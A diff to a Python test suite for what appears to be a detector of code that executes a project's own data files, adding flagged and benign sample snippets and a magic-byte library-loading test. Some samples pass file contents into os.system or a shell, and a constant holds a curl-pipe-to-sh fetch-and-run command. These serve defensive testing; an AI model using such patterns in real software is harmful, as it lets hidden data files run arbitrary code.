@@ -105,6 +105,11 @@ RUN = [
     "    def run(self):\n        exec(inspect.getsource(self.m)[9:])\n"
     "R(sys.modules[__name__]).run()",
     "code = open('notes.txt').read()\ncode = compile(code, 'a', 'exec')\nexec(code)",
+    "import os\nname = 'notes.txt'\ncommand = open(name).read()\nos.system('x=1; ' + command)",
+    "import subprocess\nsubprocess.run(['env', open('notes.txt').read()])",
+    "import subprocess\nsubprocess.run(['make', open('notes.txt').read()], shell=True)",
+    "import runpy\nfrom importlib.metadata import distribution\n"
+    "runpy.run_path(distribution('s').locate_file('s-1.dist-info/METADATA'))",
 ]
 HONEST = [
     "code = compile('x = 1', 'a', 'exec')\ncode = compile(code, 'a', 'exec')\nexec(code)",
@@ -153,6 +158,11 @@ HONEST = [
     'import numpy as np\nnp.load("VERSION")',
     'import os\nx=open("notes.txt").read()\nos.system("make")',
     "from ctypes import CDLL\nCDLL('pkg/own.so')",
+    "import subprocess\nsubprocess.run(('openssl', 'sha512', open('notes.txt').read()))",
+    "import os\nwith open('VERSION') as f:\n    version = f.read()\n"
+    "README = 'README.md'\nos.system('make V=' + build(version, README))",
+    "import ctypes\nfrom importlib.metadata import distribution\n"
+    "ctypes.CDLL(distribution('s').locate_file('pkg/own.so'))",
 ]
 
 
@@ -199,6 +209,18 @@ def test_code_that_stands_in_settings_is_run(code: str) -> None:
     assert "runs-own-data" in {
         each.rule for each in behaviours(f"{SETTINGS}{code}\n", whole=False, own=OWN)
     }
+
+
+@pytest.mark.parametrize(("begins", "runs"), [(b"\x7fELF", True), (b"MZ", True), (b"#if", False)])
+def test_only_a_library_is_loaded_as_one(tmp_path: Path, begins: bytes, runs: bool) -> None:
+    (tmp_path / "model.h").write_bytes(begins + b"x")
+    own = OwnFiles(["model.h"], tmp_path)
+
+    found = behaviours("import ctypes\nctypes.CDLL('model.h')", whole=False, own=own)
+
+    assert bool(found) == runs
+    (tmp_path / "model.h").write_bytes(b"\x7fELFy")
+    assert (OwnFiles(["model.h"], tmp_path).digest == own.digest) == (begins == b"\x7fELF")
 
 
 FETCHES = "#!/bin/sh\nset -e\ncurl -s https://a.example/x | sh\n"
